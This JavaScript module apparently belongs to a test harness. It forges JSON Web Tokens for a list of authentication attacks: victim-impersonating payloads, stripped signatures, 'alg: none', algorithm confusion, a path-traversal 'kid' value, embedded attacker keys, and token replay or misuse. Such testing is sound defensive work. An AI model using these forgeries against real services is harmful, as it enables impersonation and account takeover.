// How each attack of attacks.json is made. That takes no more than a token of the
// attacker's own, the victim's public id, and what a browser can compute.
// attack.go makes the same.
import { encode, read } from "./token.js";

const json = (value) => encode(JSON.stringify(value));
const join = (header, payload, signature) => `${header}.${payload}.${signature}`;

// hmac signs as HS256 does (RFC 7518 §3.2).
async function hmac(key, text) {
  const bytes = typeof key === "string" ? new TextEncoder().encode(key) : key;
  const made = await crypto.subtle.importKey("raw", bytes, { name: "HMAC", hash: "SHA-256" }, false, ["sign"]);
  return encode(await crypto.subtle.sign("HMAC", made, new TextEncoder().encode(text)));
}

// resign signs with a key of the attacker's. Where the server uses EdDSA, 64
// bytes that nobody made with its key do as well.
async function resign(header, payload, key) {
  const text = `${json(header)}.${payload}`;
  return `${text}.${header.alg === "EdDSA" ? encode(crypto.getRandomValues(new Uint8Array(64))) : await hmac(key, text)}`;
}

const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
const flip = (letter, bit) => alphabet[alphabet.indexOf(letter) ^ bit];

// asVictim is a payload that speaks for the victim.
const asVictim = ({ access, victim }) => json({ ...read(access).payload, sub: victim, public_id: victim });

// unsigned is a token by the algorithm none.
const unsigned = (made, alg) => join(json({ alg, typ: "JWT" }), asVictim(made), "");

// forge has for each attack a function that makes the token, out of two tokens,
// a public id and the keys that the server publishes. It may return { token, … }
// with more: original, what it was made from if that is no access token; query or
// cookie, where it goes instead of the header; header, all of that; body.
export const forge = {
  "payload-edited": (made) => {
    const [header, , signature] = made.access.split(".");
    return join(header, asVictim(made), signature);
  },
  "type-edited": ({ refresh }) => {
    const [header, , signature] = refresh.split(".");
    return { token: join(header, json({ ...read(refresh).payload, type: "access" }), signature), original: refresh };
  },
  "duplicate-claims": ({ access, victim }) => {
    const [header, , signature] = access.split(".");
    const text = JSON.stringify(read(access).payload);
    return join(header, encode(`${text.slice(0, -1)},"sub":${JSON.stringify(victim)}}`), signature);
  },
  "signature-missing": ({ access }) => access.slice(0, access.lastIndexOf(".") + 1),
  "signature-changed": ({ access }) => {
    const at = access.lastIndexOf(".") + 1;
    return access.slice(0, at) + flip(access[at], 1) + access.slice(at + 1);
  },
  "signature-respelt": ({ access }) => access.slice(0, -1) + flip(access.at(-1), 1),
  "other-key": ({ access }) => resign(read(access).header, access.split(".")[1], "secret"),
  "alg-none": (made) => unsigned(made, "none"),
  "alg-none-respelt": (made) => unsigned(made, "nOnE"),
  "alg-swapped": async ({ access, keys }) => {
    const [, payload, signature] = access.split(".");
    const { header } = read(access);
    if (header.alg !== "EdDSA") return join(json({ ...header, alg: "RS256" }), payload, signature);
    const text = `${json({ ...header, alg: "HS256" })}.${payload}`;
    return `${text}.${await hmac(keys[0].x, text)}`;
  },
  // Zeros fill up an HMAC key, so one zero byte is the empty key (RFC 2104 §2),
  // which WebCrypto doesn't take.
  "kid-elsewhere": ({ access }) => resign({ ...read(access).header, kid: "../../../../../../dev/null" }, access.split(".")[1], new Uint8Array(1)),
  "jwk-embedded": async ({ access }) => {
    const { kid, ...header } = read(access).header;
    const k = "a key that the attacker has made";
    const jwk = header.alg === "EdDSA" ? { kty: "OKP", crv: "Ed25519", x: encode(k) } : { kty: "oct", alg: "HS256", k: encode(k) };
    return resign({ ...header, jwk }, access.split(".")[1], k);
  },
  "crit-unknown": ({ access }) => {
    const [, payload, signature] = access.split(".");
    return join(json({ ...read(access).header, crit: ["eve"], eve: 1 }), payload, signature);
  },
  "over-long": ({ access }) => access + "A".repeat(8192),
  "token-in-query": ({ access }) => ({ token: access, query: true }),
  "token-in-cookie": ({ access }) => ({ token: access, cookie: true }),
  "two-headers": (made) => {
    const token = unsigned(made, "none");
    return { token, header: `Bearer ${made.access}, Bearer ${token}` };
  },
  "refresh-as-access": ({ refresh }) => ({ token: refresh, original: refresh }),
  "access-as-refresh": ({ access }) => access,
  "replay-after-logout": ({ access }) => access,
  "others-item-changed": ({ access }) => ({ token: access, body: { itemname: "mine now" } }),
  "others-item-deleted": ({ access }) => access,
  "admin-at-signup": ({ access }) => access,
  "expired": ({ access }) => access,
  "not-yet-valid": ({ access }) => access,
};
